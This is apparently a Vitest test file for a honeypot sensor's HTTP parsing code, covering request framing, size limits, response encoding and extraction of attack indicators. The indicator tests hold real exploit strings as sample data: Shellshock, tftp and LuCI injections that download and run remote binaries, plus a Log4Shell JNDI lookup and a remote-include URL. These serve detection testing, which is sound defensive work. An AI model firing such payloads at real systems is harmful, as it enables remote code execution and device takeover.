/** The HTTP codec: request framer (round trips, captured bytes, limits, garbage), responses, facts. */
import { randomBytes } from "node:crypto"
import { describe, expect, it } from "vitest"
import { basicCredentials, decodeForm, indicators, requestFacts, splitTarget } from "../../adapters/sensor/http/facts.js"
import { encodeRequest } from "../../adapters/sensor/http/message.js"
import type { HttpRequest } from "../../adapters/sensor/http/message.js"
import { defaultRequestLimits, RequestFramer } from "../../adapters/sensor/http/request.js"
import type { RequestFrame } from "../../adapters/sensor/http/request.js"
import { decodeResponse, encodeResponse } from "../../adapters/sensor/http/response.js"
import type { SessionContext } from "../../adapters/sensor/Plugin.js"
import { http } from "../../adapters/sensor/plugins/http.js"

const feed = (framer: RequestFramer, bytes: Buffer, step = bytes.length): Array<RequestFrame> => {
  const frames: Array<RequestFrame> = []
  for (let i = 0; i < bytes.length; i += step) frames.push(...framer.push(bytes.subarray(i, i + step)))
  return frames
}

const requests = (frames: ReadonlyArray<RequestFrame>): Array<HttpRequest> => frames.flatMap((f) => (f._tag === "Request" ? [f.request] : []))
const rejection = (bytes: string | Buffer) => {
  const frames = new RequestFramer().push(typeof bytes === "string" ? Buffer.from(bytes, "latin1") : bytes)
  const last = frames.at(-1)
  return last?._tag === "Rejected" ? last.status : null
}

const post: Omit<HttpRequest, "bodyLength"> = {
  method: "POST",
  target: "/xmlrpc.php?x=1",
  version: "1.1",
  headers: [["Host", "example.test"], ["Content-Type", "text/xml"], ["Content-Length", "300"]],
  body: randomBytes(300),
  chunked: false
}

describe("HTTP request framer", () => {
  it("round-trips a Content-Length request, whole or one byte at a time", () => {
    const bytes = encodeRequest(post)
    for (const step of [bytes.length, 1, 7]) {
      const [request] = requests(feed(new RequestFramer(), bytes, step))
      expect(request).toEqual({ ...post, bodyLength: 300 })
    }
  })

  it("round-trips a chunked request and reads its trailers without keeping them", () => {
    const chunked = { ...post, headers: [["Host", "h"], ["Transfer-Encoding", "chunked"]] as const, chunked: true }
    const bytes = encodeRequest(chunked, 64)
    const [request] = requests(feed(new RequestFramer(), bytes, 5))
    expect(request).toEqual({ ...chunked, bodyLength: 300 })
    const withTrailer = Buffer.from("POST / HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\n\r\n3;ext=1\r\nabc\r\n0\r\nX-Sum: 1\r\n\r\n", "latin1")
    const [t] = requests(new RequestFramer().push(withTrailer))
    expect(t?.body.toString()).toBe("abc")
    expect(t?.headers).toHaveLength(2)
  })

  it("decodes bytes curl 7.88.1 sent, and pipelined requests in order", () => {
    const captured = Buffer.from(
      "474554202f20485454502f312e310d0a486f73743a203132372e302e302e313a34363231370d0a557365722d4167656e743a206375726c2f372e38382e310d0a4163636570743a202a2f2a0d0a0d0a",
      "hex"
    )
    const framer = new RequestFramer()
    const got = requests(framer.push(Buffer.concat([captured, captured, captured.subarray(0, 20)])))
    expect(got).toHaveLength(2)
    expect(got[0]).toMatchObject({ method: "GET", target: "/", version: "1.1", headers: [["Host", "127.0.0.1:46217"], ["User-Agent", "curl/7.88.1"], ["Accept", "*/*"]] })
    expect(requests(framer.push(captured.subarray(20)))).toHaveLength(1)
  })

  it("answers limits as Apache does", () => {
    expect(rejection("GET /" + "a".repeat(9000) + " HTTP/1.1\r\n")).toBe(414)
    expect(rejection("GET / HTTP/1.1\r\nX: " + "b".repeat(9000))).toBe(400)
    expect(rejection("GET / HTTP/1.1\r\n" + "X: y\r\n".repeat(101))).toBe(431)
    expect(rejection("GET / HTTP/1.1\r\n" + ("X: " + "c".repeat(8000) + "\r\n").repeat(9))).toBe(431)
    expect(rejection("POST / HTTP/1.1\r\nContent-Length: 1048577\r\n\r\n")).toBe(413)
    expect(rejection("POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n100001\r\n")).toBe(413)
    expect(rejection("POST / HTTP/1.1\r\nTransfer-Encoding: gzip\r\n\r\n")).toBe(501)
    expect(rejection("POST / HTTP/1.1\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\n")).toBe(400)
    expect(rejection("GET / HTTP/1.1\r\nX: a\r\n folded\r\n\r\n")).toBe(400)
    expect(rejection("GET /\r\n")).toBe(400)
    expect(rejection("POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nabcXYZ\r\n")).toBe(400)
  })

  it("keeps memory bounded: a megabyte without a newline is refused after the line limit, a big body is not buffered", () => {
    const framer = new RequestFramer()
    let status: number | null = null
    let maxPending = 0
    for (let i = 0; i < 1024 && status === null; i++) {
      const frames = framer.push(Buffer.alloc(1024, 0x41))
      maxPending = Math.max(maxPending, framer.pending)
      if (frames[0]?._tag === "Rejected") status = frames[0].status
    }
    expect(status).toBe(414)
    expect(maxPending).toBeLessThanOrEqual(defaultRequestLimits.maxRequestLine + 1024)
    expect(framer.push(Buffer.from("GET / HTTP/1.1\r\n\r\n"))).toEqual([]) // spent
    const body = new RequestFramer({ ...defaultRequestLimits, keepBody: 100 })
    body.push(Buffer.from("POST / HTTP/1.1\r\nContent-Length: 1000000\r\n\r\n"))
    let frames: Array<RequestFrame> = []
    for (let i = 0; i < 100; i++) frames = body.push(Buffer.alloc(10_000, 0x42))
    expect(body.pending).toBe(0)
    expect(requests(frames)[0]).toMatchObject({ bodyLength: 1_000_000 })
    expect(requests(frames)[0]!.body.length).toBe(100)
  })

  it("never throws on garbage: it waits or rejects", () => {
    for (let i = 0; i < 300; i++) {
      const framer = new RequestFramer()
      const frames = feed(framer, randomBytes(1 + (i % 50) * 40), 1 + (i % 13))
      for (const f of frames) expect(["Request", "Rejected"]).toContain(f._tag)
    }
  })
})

describe("HTTP responses", () => {
  it("round-trips, and a HEAD answer keeps Content-Length but drops the body", () => {
    const response = { status: 404, headers: [["Server", "Apache"], ["Content-Length", "5"]] as const, body: "nope!" }
    const decoded = decodeResponse(Buffer.concat([encodeResponse(response), encodeResponse(response)]))
    expect(decoded).toMatchObject({ status: 404, reason: "Not Found", headers: response.headers })
    expect(decoded?.body.toString()).toBe("nope!")
    expect(decodeResponse(decoded!.rest)?.status).toBe(404)
    expect(encodeResponse(response, { head: true }).toString()).toBe("HTTP/1.1 404 Not Found\r\nServer: Apache\r\nContent-Length: 5\r\n\r\n")
  })
})

describe("HTTP facts", () => {
  it("splits targets, decodes forms and Basic credentials", () => {
    expect(splitTarget("http://evil.test:8080/x?y=1#z")).toEqual({ path: "/x", query: "y=1", proxyHost: "evil.test:8080" })
    expect(splitTarget("/a/b?c=%20d")).toEqual({ path: "/a/b", query: "c=%20d", proxyHost: null })
    expect([...decodeForm("log=ad%6Din&pwd=a+b%26c&log=second")]).toEqual([["log", "admin"], ["pwd", "a b&c"]])
    expect(basicCredentials("Basic " + Buffer.from("tomcat:s3:cret").toString("base64"))).toEqual({ username: "tomcat", password: "s3:cret" })
    expect(basicCredentials("Bearer abc")).toBeNull()
  })

  it("finds commands, URLs and hosts in exploit payloads, not in ordinary traffic", () => {
    const shellshock = indicators(['() { :; }; /bin/bash -c "cd /tmp; wget http://203.0.113.5/bot -O b; chmod +x b"'], "victim")
    expect(shellshock.commands).toEqual(expect.arrayContaining(["/bin/bash -c \"cd /tmp", "wget http://203.0.113.5/bot -O b", "chmod +x b"]))
    expect(shellshock.urls).toEqual(["http://203.0.113.5/bot"])
    expect(indicators(["cd${IFS}/tmp;tftp -g -r mips 203.0.113.9;sh mips"], null).hosts).toEqual(["203.0.113.9"])
    expect(indicators(["${jndi:ldap://203.0.113.7:1389/Exploit}"], null).urls).toEqual(["ldap://203.0.113.7:1389/Exploit"])
    expect(indicators(["page=http://203.0.113.8/shell.txt?"], "victim").urls).toEqual(["http://203.0.113.8/shell.txt?"])
    expect(indicators(["redirect_to=http://victim/wp-admin/", "curl/7.88.1", "python-requests/2.31"], "victim")).toEqual({ urls: [], hosts: [], commands: [] })
    const facts = requestFacts({
      method: "GET",
      target: "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(wget%20http%3A%2F%2F198.51.100.3%2Fx)",
      version: "1.1",
      headers: [["Host", "victim"], ["User-Agent", "x".repeat(2000)]],
      body: Buffer.alloc(0),
      bodyLength: 0,
      chunked: false
    })
    expect(facts).toMatchObject({ path: "/cgi-bin/luci/;stok=/locale", commands: ["wget http://198.51.100.3/x"], urls: ["http://198.51.100.3/x"] })
    expect((facts["userAgent"] as string).length).toBe(512)
  })
})

describe("HTTP session", () => {
  const ctx: SessionContext = {
    sessionId: "s",
    sensor: "t",
    service: "web",
    transport: "tcp",
    remote: { ip: "192.0.2.1", port: 5000 },
    local: { ip: "127.0.0.1", port: 8080, publicPort: 80 },
    options: { maxKeepAliveRequests: 2, server: "nginx" },
    dataDir: "/nonexistent",
    shared: new Map()
  }

  it("counts Apache's Keep-Alive max down and closes after it, ignoring what follows", () => {
    const plugin = http.tcp
    if (plugin?.kind !== "stream") throw new Error("http is a stream plugin")
    const s = plugin.session(ctx)
    const step = s.data(Buffer.from("GET / HTTP/1.1\r\nHost: h\r\n\r\n".repeat(4)))
    const replies = (step.send ?? []).map((b) => decodeResponse(Buffer.from(b))!)
    expect(replies.map((r) => r.headers.find(([n]) => n === "Keep-Alive" || n === "Connection")?.[1])).toEqual(["timeout=5, max=2", "timeout=5, max=1", "close"])
    expect(replies[0]!.headers).toContainEqual(["Server", "nginx"])
    expect(step.close).toBe("max-keepalive-requests")
    expect(step.facts).toMatchObject({ method: "GET", pipelinedCount: 2 })
    expect(s.data(Buffer.from("GET / HTTP/1.1\r\nHost: h\r\n\r\n"))).toEqual({})
  })
})
